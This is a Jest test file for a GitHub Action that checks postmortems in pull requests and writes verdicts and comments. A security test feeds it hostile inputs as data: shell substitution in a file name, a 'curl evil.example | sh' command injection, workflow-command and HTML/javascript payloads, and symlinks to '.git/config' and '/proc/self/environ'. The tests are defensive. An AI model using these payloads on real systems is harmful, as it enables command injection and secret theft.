/** The check of a pull request by the bundle: verdict, annotations, summary and the one comment. */

import { afterEach, describe, expect, test } from '@jest/globals';
import { faults, on } from '../support/github.js';
import type { StepResult } from '../support/runner.js';
import { Bundle, file, forkToken, postmortem, repo, three } from './bundle.js';

let bundle: Bundle;

afterEach(async () => {
  expect(bundle.issueWrites).toEqual([]);
  expect(await bundle.close()).toEqual({ violations: [], mismatches: [] });
});

const broken = 'postmortems/2026-02-03-cdn.md';
/** Lacks a root cause, which is an error, and more that is none. */
const incomplete = [
  '# CDN down',
  '',
  '**Date:** 2026-02-03',
  '',
  '## Summary',
  'It broke.',
  '',
  '## Timeline',
  '- 10:00 UTC errors rise',
  '',
  '## Action items',
  '- Alert on errors of the CDN',
  '',
].join('\n');

const errorsOf = ({ annotations }: StepResult) =>
  annotations
    .filter(({ level, properties }) => level === 'error' && 'file' in properties)
    .map(({ properties }) => `${properties['file'] ?? ''}:${properties['line'] ?? ''} ${properties['title'] ?? ''}`);
const messagesOf = ({ annotations }: StepResult, level: string) =>
  annotations.filter((one) => one.level === level).map(({ message }) => message);
/** The first line of what was said. */
const headline = (text: string | undefined) => text?.trimStart().split('\n')[0];

describe('a pull request of the same repository', () => {
  test('fails at file and line while incomplete, and one comment follows it to the end', async () => {
    bundle = await Bundle.open({ 'x.txt': 'x' });
    const number = await bundle.propose({ [broken]: incomplete });
    const first = await bundle.pullRequest(number);
    expect(first.conclusion).toBe('failure');
    expect(first.outputs).toMatchObject({ verdict: 'fail', errors: '1', planned: '1', complete: 'true' });
    expect(errorsOf(first)).toEqual([`${broken}:1 missing-section`]);
    const [comment, ...more] = await bundle.comments(number);
    expect(more).toEqual([]);
    expect(headline(comment)).toBe('### ❌ This postmortem is incomplete: 1 problem to fix');
    expect(headline(first.summary)).toBe(headline(comment));
    expect(comment).toContain('**Merging this opens 1 issue**');

    await bundle.commit({ 'elsewhere.txt': 'y' }, 'change');
    expect((await bundle.pullRequest(number)).log).toContain('Comment: unchanged.');
    expect(bundle.writes()).toEqual([]);
    expect(await bundle.comments(number)).toEqual([comment]);

    await bundle.commit({ [broken]: postmortem(three) }, 'change');
    const fixed = await bundle.pullRequest(number);
    expect(fixed.conclusion).toBe('success');
    expect(fixed.outputs).toMatchObject({ verdict: 'pass', planned: '3' });
    expect((await bundle.comments(number)).map(headline)).toEqual([
      '### ✅ This postmortem is complete: merging opens 3 issues',
    ]);

    await bundle.commit({ [broken]: null }, 'change');
    expect((await bundle.pullRequest(number)).outputs).toMatchObject({ verdict: 'none' });
    expect((await bundle.comments(number)).map(headline)).toEqual(['### ✅ No postmortem changes here']);
  });

  test('that touches no postmortem costs two requests and is left in peace', async () => {
    bundle = await Bundle.open({ [file]: postmortem(three) });
    const number = await bundle.propose({ 'src/a.ts': 'x', 'docs/notes.md': '# Notes\n' });
    const step = await bundle.pullRequest(number);
    expect(step.conclusion).toBe('success');
    expect(step.outputs).toMatchObject({ verdict: 'none' });
    expect(step.annotations).toEqual([]);
    expect(bundle.requests()).toHaveLength(2);
    expect(await bundle.comments(number)).toEqual([]);
  });

  test('keeps to its budget of requests with comments of others on two pages', async () => {
    bundle = await Bundle.open({ [file]: postmortem(three) });
    const number = await bundle.propose({ [file]: postmortem([...three, 'Warm the cache']) });
    for (let at = 0; at < 101; at += 1) {
      await bundle.github.api('POST', `/repos/${repo}/issues/${number}/comments`, { body: `Comment ${at}` });
    }
    await bundle.pullRequest(number);
    expect(await bundle.allComments(number)).toHaveLength(102);
    const step = await bundle.pullRequest(number);
    expect(step.log).toContain('Comment: unchanged.');
    // A page of issues, the fixed four, the postmortem, and two pages of comments: more than the first.
    expect(bundle.requests().length).toBeLessThanOrEqual(1 + 4 + 1 + 1 + 2);
  });

  test('that fixes a typo in an old, bad report stays green; what it adds does not', async () => {
    bundle = await Bundle.open({ [broken]: incomplete });
    const number = await bundle.propose({ [broken]: incomplete.replace('It broke.', 'It was broken.') });
    const step = await bundle.pullRequest(number);
    expect(step.outputs).toMatchObject({ verdict: 'pass', errors: '1' });
    await bundle.commit({ [broken]: incomplete.replace('## Timeline\n- 10:00 UTC errors rise\n', '') }, 'change');
    expect((await bundle.pullRequest(number)).outputs).toMatchObject({ verdict: 'fail' });
  });

  test('renames an old, bad report and stays green; from where none are looked for it adds one', async () => {
    const notes = 'notes/cdn.md';
    bundle = await Bundle.open({ [broken]: incomplete, [notes]: incomplete.replace('CDN', 'Other') });
    const within = await bundle.propose({ [broken]: null, 'postmortems/pm-7-cdn.md': incomplete });
    expect((await bundle.pullRequest(within)).outputs).toMatchObject({ verdict: 'pass', postmortems: '1' });
    const added = await bundle.propose(
      { [notes]: null, 'postmortems/2026-02-04-other.md': incomplete.replace('CDN', 'Other') },
      { head: 'added' },
    );
    expect((await bundle.pullRequest(added)).outputs).toMatchObject({ verdict: 'fail', postmortems: '1' });
  });

  test('a draft is shown and passes', async () => {
    bundle = await Bundle.open({ 'x.txt': 'x' });
    const number = await bundle.propose({ [broken]: incomplete.replace('**Date', '**Status:** Draft\n**Date') });
    const step = await bundle.pullRequest(number);
    expect(step.outputs).toMatchObject({ verdict: 'pass', errors: '1' });
    expect((await bundle.comments(number)).map(headline)).toEqual(['### 📝 Draft: merging opens 1 issue']);
  });

  test('is judged by fail-on', async () => {
    bundle = await Bundle.open({ 'x.txt': 'x' });
    const number = await bundle.propose({ [broken]: postmortem(['Alert on errors of the CDN']) });
    const verdict = async (level: string) =>
      (await bundle.pullRequest(number, { inputs: { 'fail-on': level } })).outputs['verdict'];
    expect(await verdict('error')).toBe('pass');
    expect(await verdict('warning')).toBe('fail');
    expect(await verdict('never')).toBe('pass');
  });

  test('into another branch opens nothing and promises nothing', async () => {
    bundle = await Bundle.open({ 'x.txt': 'x' });
    await bundle.commit({ 'y.txt': 'y' }, 'release');
    const number = await bundle.propose({ [broken]: postmortem(three) }, { base: 'release' });
    const step = await bundle.pullRequest(number);
    expect(step.outputs).toMatchObject({ verdict: 'pass' });
    expect(step.outputs['planned']).toBeUndefined();
    expect((await bundle.comments(number)).map(headline)).toEqual(['### ✅ This postmortem is complete']);
  });
});

describe('a postmortem that is tracked', () => {
  test('and is deleted, or moved to where none are looked for: what merging does is said, with names', async () => {
    bundle = await Bundle.open({ [file]: postmortem(three.slice(2)) });
    await bundle.push();
    const deleted = await bundle.propose({ [file]: null });
    const moved = await bundle.propose(
      { [file]: null, 'archive/db.md': postmortem(three.slice(2)) },
      { head: 'moved' },
    );
    for (const number of [deleted, moved]) {
      expect((await bundle.pullRequest(number)).outputs).toMatchObject({ verdict: 'pass', postmortems: '0' });
      const [comment] = await bundle.comments(number);
      expect(headline(comment)).toBe('### ℹ️ 1 postmortem removed here');
      expect(comment).toMatch(/\*\*Merging this marks 1 issue as removed from the file\*\*\n\n- \[#1\]\(.*\) Rehearse/);
    }
    await bundle.commit({ '.github/postmortems.yml': 'when-removed: close\n' });
    await bundle.pullRequest(deleted);
    expect((await bundle.comments(deleted)).join()).toContain('**Merging this closes 1 issue: removed from the file**');
  });

  test('opens nothing anew where another file has its name', async () => {
    const [one, other] = ['postmortems/db/2026-01-02.md', 'postmortems/web/2026-01-02.md'];
    const text = postmortem(['Alert on the length of the queue'], { title: 'Queue down' });
    bundle = await Bundle.open({ [one]: text, [other]: postmortem([]) });
    await bundle.push();
    const number = await bundle.propose({ [one]: text.replace('for an hour', 'for two hours') });
    expect((await bundle.pullRequest(number)).outputs).toMatchObject({ planned: '0', open: '1' });
  });
});

describe('a token that may only read', () => {
  test.each(['fork', 'Dependabot'])('of a %s: the same verdict, no comment, one notice', async (who) => {
    bundle = await Bundle.open({ 'x.txt': 'x' });
    const fork = who === 'fork' ? { fork: await bundle.github.repositories.fork(repo, 'mallory') } : {};
    const number = await bundle.propose({ [broken]: incomplete }, fork);
    const step = await bundle.pullRequest(number, { permissions: forkToken });
    expect(step.conclusion).toBe('failure');
    expect(step.outputs).toMatchObject({ verdict: 'fail', complete: 'true', planned: '1' });
    expect(errorsOf(step)).toEqual([`${broken}:1 missing-section`]);
    expect(messagesOf(step, 'notice').filter((message) => message.includes('may not comment'))).toHaveLength(1);
    expect(headline(step.summary)).toContain('❌');
    expect(await bundle.comments(number)).toEqual([]);

    await bundle.commit({ [broken]: postmortem(three) }, 'change', fork.fork);
    expect((await bundle.pullRequest(number, { permissions: forkToken })).conclusion).toBe('success');
  });

  test('is made up for by the comment lane, which judges for itself and never fails', async () => {
    bundle = await Bundle.open({ 'x.txt': 'x' });
    const fork = await bundle.github.repositories.fork(repo, 'mallory');
    const number = await bundle.propose({ [broken]: incomplete }, { fork });
    const step = await bundle.afterCheck(number);
    expect(step.conclusion).toBe('success');
    expect(step.outputs).toMatchObject({ verdict: 'fail' });
    expect(errorsOf(step)).toEqual([]);
    expect((await bundle.comments(number)).map(headline)).toEqual([
      '### ❌ This postmortem is incomplete: 1 problem to fix',
    ]);
    expect((await bundle.afterCheck(number)).log).toContain('Comment: unchanged.');
  });
});

test('a merge group gets its verdict and no comment', async () => {
  bundle = await Bundle.open({ 'x.txt': 'x' });
  const bad = await bundle.mergeGroup(await bundle.commit({ [broken]: incomplete }, 'queue'));
  expect(bad.conclusion).toBe('failure');
  expect(errorsOf(bad)).toEqual([`${broken}:1 missing-section`]);
  const good = await bundle.mergeGroup(await bundle.commit({ [broken]: postmortem(three) }, 'queue'));
  expect(good.conclusion).toBe('success');
  expect(good.outputs).toMatchObject({ verdict: 'pass', planned: '3' });
  expect(bundle.writes()).toEqual([]);
});

describe('the configuration', () => {
  const path = '.github/postmortems.yml';

  test('is that of the default branch, whatever the pull request says', async () => {
    bundle = await Bundle.open({ 'x.txt': 'x' });
    const lenient = { [path]: 'rules:\n  missing-section: off\n', 'package.json': '{}', '.npmrc': 'x' };
    const number = await bundle.propose({ [broken]: incomplete, ...lenient });
    expect((await bundle.pullRequest(number)).outputs).toMatchObject({ verdict: 'fail' });
    await bundle.commit(lenient);
    expect((await bundle.pullRequest(number)).outputs).toMatchObject({ verdict: 'pass' });
  });

  test.each([
    ['is no YAML', 'rules: ['],
    ['has a setting that does not exist', 'presett: light\n'],
    ['has a rule that does not exist', 'rules:\n  no-such-rule: off\n'],
  ])('that %s is never green', async (_, text) => {
    bundle = await Bundle.open({ [path]: text });
    const number = await bundle.propose({ [broken]: postmortem(three) });
    const step = await bundle.pullRequest(number);
    expect(step.conclusion).toBe('failure');
    expect(messagesOf(step, 'error').join()).not.toBe('');
    expect(step.outputs['verdict']).toBeUndefined();
    expect(await bundle.comments(number)).toEqual([]);
  });

  test('comment-on says which pull requests get a comment', async () => {
    bundle = await Bundle.open({ [path]: 'comment-on: never\n' });
    const number = await bundle.propose({ [broken]: incomplete });
    expect((await bundle.pullRequest(number)).outputs).toMatchObject({ verdict: 'fail' });
    expect(bundle.writes()).toEqual([]);
  });
});

test('comment-on: all tells every pull request what is still open, and nothing where nothing is', async () => {
  bundle = await Bundle.open({ '.github/postmortems.yml': 'comment-on: all\n' });
  const number = await bundle.propose({ 'src/a.ts': 'x' });
  await bundle.pullRequest(number);
  expect(bundle.writes()).toEqual([]);
  await bundle.commit({ [file]: postmortem(three.slice(2)) });
  await bundle.push();
  expect((await bundle.pullRequest(number)).outputs).toMatchObject({ verdict: 'none', open: '1' });
  expect((await bundle.comments(number)).map(headline)).toEqual([
    '### ℹ️ 1 action item of past postmortems still open',
  ]);
});

describe('what cannot be read', () => {
  test.each([['a listing of issues that breaks off', on('GET', /\/issues$/)]])(
    '%s changes no verdict and is said',
    async (_, match) => {
      bundle = await Bundle.open({ 'x.txt': 'x' });
      const number = await bundle.propose({ [broken]: postmortem(three) });
      bundle.github.addFault({ match, kind: faults.before(500), times: 99 });
      const step = await bundle.pullRequest(number);
      expect(step.conclusion).toBe('success');
      expect(step.outputs).toMatchObject({ verdict: 'pass', complete: 'false' });
      expect(messagesOf(step, 'warning').join()).toContain('could not be worked out');
    },
  );

  test.each([
    ['the comparison', on('GET', /\/compare\//)],
    ['the files', on('POST', /\/graphql$/)],
  ])('%s is never green', async (_, match) => {
    bundle = await Bundle.open({ 'x.txt': 'x' });
    const number = await bundle.propose({ [broken]: postmortem(three) });
    bundle.github.addFault({ match, kind: faults.before(502), times: 99 });
    const step = await bundle.pullRequest(number);
    expect(step.conclusion).toBe('failure');
    expect(step.outputs['verdict']).toBeUndefined();
  });

  test('a comment that cannot be written changes no verdict', async () => {
    bundle = await Bundle.open({ 'x.txt': 'x' });
    const number = await bundle.propose({ [broken]: postmortem(three) });
    bundle.github.addFault({ match: on('POST', /\/comments$/), kind: faults.after(502), times: 1 });
    const step = await bundle.pullRequest(number);
    expect(step.conclusion).toBe('success');
    expect(messagesOf(step, 'warning')).toContain(
      'The comment could not be written; the verdict is in the job summary.',
    );
    expect(bundle.writes()).toHaveLength(1);
    expect((await bundle.pullRequest(number)).log).toContain('Comment: unchanged.');
  });

  test('nor does a runner without a job summary', async () => {
    bundle = await Bundle.open({ 'x.txt': 'x' });
    const number = await bundle.propose({ [broken]: postmortem(three) });
    expect((await bundle.pullRequest(number, { without: ['GITHUB_STEP_SUMMARY'] })).conclusion).toBe('success');
  });

  test('nor does a folder for the report that is not there', async () => {
    bundle = await Bundle.open({ 'x.txt': 'x' });
    const number = await bundle.propose({ [broken]: postmortem(three) });
    const step = await bundle.pullRequest(number, { env: { RUNNER_TEMP: '/nonexistent' } });
    expect(step.conclusion).toBe('success');
    expect(step.outputs).toMatchObject({ verdict: 'pass', 'report-json': '' });
    expect(messagesOf(step, 'warning')).toContain('The report could not be written to the folder of this run.');
  });

  test('S12, S15: links, bytes and monsters are problems of their file, and no link is followed', async () => {
    bundle = await Bundle.open({ 'x.txt': 'x' });
    const number = await bundle.propose({
      'postmortems/link.md': { symlink: '../.git/config' },
      'postmortems/environ.md': { symlink: '/proc/self/environ' },
      'postmortems/bytes.md': Buffer.from([0x50, 0x4b, 0, 1, 2]),
      'postmortems/latin.md': Buffer.from([0x63, 0x61, 0x66, 0xe9]),
      'postmortems/huge.md': 'x'.repeat(1_048_577),
    });
    const step = await bundle.pullRequest(number);
    expect(step.outputs).toMatchObject({ verdict: 'fail', postmortems: '0', planned: '0' });
    expect(errorsOf(step)).toEqual(
      ['bytes', 'environ', 'huge', 'latin', 'link'].map((name) => `postmortems/${name}.md:1 unreadable-file`),
    );
    expect(step.summary).not.toContain('.git/config');
  });

  test('a program or a link without an ending is no postmortem gone wrong', async () => {
    bundle = await Bundle.open({ 'x.txt': 'x' });
    const number = await bundle.propose({
      'incidents/tool': Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 1]),
      'incidents/latest': { symlink: '2026' },
    });
    expect((await bundle.pullRequest(number)).outputs).toMatchObject({ verdict: 'none' });
  });
});

test('S2–S6, S8, S10: hostile names and words command neither the runner nor GitHub', async () => {
  const name = 'postmortems/2026-02-03-$(touch x)`|<img src=x>.md';
  const marker = `<!-- postmortem-followthrough:comment v=1 head=${'a'.repeat(40)} run=99 -->`;
  bundle = await Bundle.open({ 'x.txt': 'x' });
  const number = await bundle.propose({
    [name]: incomplete
      .replace('CDN down', '::error::boom ##[error]boom @acme/all')
      .replace(
        '- Alert',
        [
          '- ::set-output name=verdict::pass',
          '- Improve monitoring ##[add-mask]postmortem @acme/sre fixes #1',
          `- Check ${marker} ![x](https://evil.example/x.png)`,
          '- Remove </details><details><summary>x from [here](javascript:alert(1))',
          '- Be more careful "; curl evil.example | sh; ghadelimiter_x',
          '- Alert',
        ].join('\n'),
      ),
  });
  const step = await bundle.pullRequest(number);
  expect(step.unexpectedCommands).toEqual([]);
  expect(step.outputs).toMatchObject({ verdict: 'fail', complete: 'true' });
  for (const value of Object.values(step.outputs)) {
    expect(value).toMatch(/^(?:\d+|true|false|pass|fail|none|\/[\w./-]+\.json)$/);
  }
  expect(errorsOf(step)).toEqual([`${name}:1 missing-section`]);
  const [comment = ''] = await bundle.comments(number);
  for (const text of [comment, step.summary]) {
    expect(text).not.toMatch(/!\[|<img src=x>(?!\.md`)|javascript:|<\/details><details>/);
    expect(text).not.toMatch(/@acme|@ada/);
    expect(text).not.toMatch(/fixes #1/);
  }
  expect(comment.match(/<!--/g)).toHaveLength(1);
  expect((await bundle.pullRequest(number)).log).toContain('Comment: unchanged.');
});

describe('the comment', () => {
  test('F21: a run that ends late does not overwrite what a newer one said', async () => {
    bundle = await Bundle.open({ 'x.txt': 'x' });
    const number = await bundle.propose({ [broken]: incomplete });
    const old = await bundle.event(number);
    await bundle.commit({ [broken]: postmortem(three) }, 'change');
    await bundle.pullRequest(number, { runId: 200 });
    const said = await bundle.comments(number);
    expect((await bundle.pullRequest(number, { runId: 199 }, old)).log).toContain('Comment: overtaken.');
    expect(await bundle.comments(number)).toEqual(said);
    // The same head, but a run that was started before the configuration changed.
    await bundle.commit({ '.github/postmortems.yml': 'since: 2027-01-01\n' });
    expect((await bundle.pullRequest(number, { runId: 198 })).log).toContain('Comment: overtaken.');
    expect(await bundle.comments(number)).toEqual(said);
  });

  test('F10: one by somebody else with our marker is not ours; of two of ours one stays', async () => {
    bundle = await Bundle.open({ 'x.txt': 'x' });
    const number = await bundle.propose({ [broken]: incomplete });
    const path = `/repos/${repo}/issues/${number}/comments`;
    const forged = `Forged\n\n<!-- postmortem-followthrough:comment v=1 head=${'a'.repeat(40)} run=999999 -->`;
    await bundle.github.api('POST', path, { body: forged }, bundle.github.userToken('mallory'));
    await bundle.pullRequest(number);
    const [theirs, ours, ...rest] = await bundle.comments(number);
    expect(theirs).toBe(forged);
    expect(rest).toEqual([]);
    const token = await bundle.github.installationToken({ issues: 'write', pull_requests: 'write' });
    await bundle.github.api('POST', path, { body: ours }, token);
    await bundle.pullRequest(number);
    expect(await bundle.comments(number)).toEqual([theirs, ours]);
  });
});

describe('settings of the workflow', () => {
  test('`paths` holds on a pull request as on a branch', async () => {
    bundle = await Bundle.open({ 'x.txt': 'x' });
    const number = await bundle.propose({ [broken]: incomplete, 'notes/cdn.md': incomplete });
    const step = await bundle.pullRequest(number, { inputs: { paths: 'notes\n' } });
    expect(step.outputs).toMatchObject({ verdict: 'fail', postmortems: '1' });
    expect(errorsOf(step)).toEqual(['notes/cdn.md:1 missing-section']);
    const none = await bundle.pullRequest(number, { inputs: { paths: 'docs' } });
    expect(none.outputs).toMatchObject({ verdict: 'none' });
  });

  test('a configuration that is named and not there fails, and blames nobody here', async () => {
    bundle = await Bundle.open({ [file]: postmortem(three) });
    const number = await bundle.propose({
      [file]: postmortem([...three, 'Warm the cache']),
      'settings.yml': 'label: x\n',
    });
    const step = await bundle.pullRequest(number, { inputs: { config: 'settings.yml' } });
    expect(step.conclusion).toBe('failure');
    expect(messagesOf(step, 'error').join('\n')).toContain('config: settings.yml does not exist on the default branch');
    expect(messagesOf(step, 'error').join('\n')).toContain('nothing in it is at fault');
  });
});

test('an id that a postmortem outside of the change has already is a warning and costs no request', async () => {
  const named = (text: string): string => `---\nid: pm-7\n---\n${text}`;
  bundle = await Bundle.open({ [file]: named(postmortem(three)) });
  await bundle.push();
  const number = await bundle.propose({ [broken]: named(postmortem(['Alert on errors'], { title: 'CDN down' })) });
  await bundle.pullRequest(number);
  const step = await bundle.pullRequest(number);
  expect(step.outputs).toMatchObject({ verdict: 'pass' });
  expect(messagesOf(step, 'warning').filter((text) => text.includes('"pm-7"'))).toHaveLength(1);
  expect((await bundle.comments(number))[0]).toContain('pm-7');
  expect(bundle.requests().length).toBeLessThanOrEqual(1 + 4 + 4 + 1);
  // A rename takes the id along.
  const moved = await bundle.propose(
    { [file]: null, 'postmortems/pm-7-db.md': named(postmortem(three)) },
    { head: 'moved' },
  );
  expect(messagesOf(await bundle.pullRequest(moved), 'warning').join()).not.toContain('"pm-7"');
});
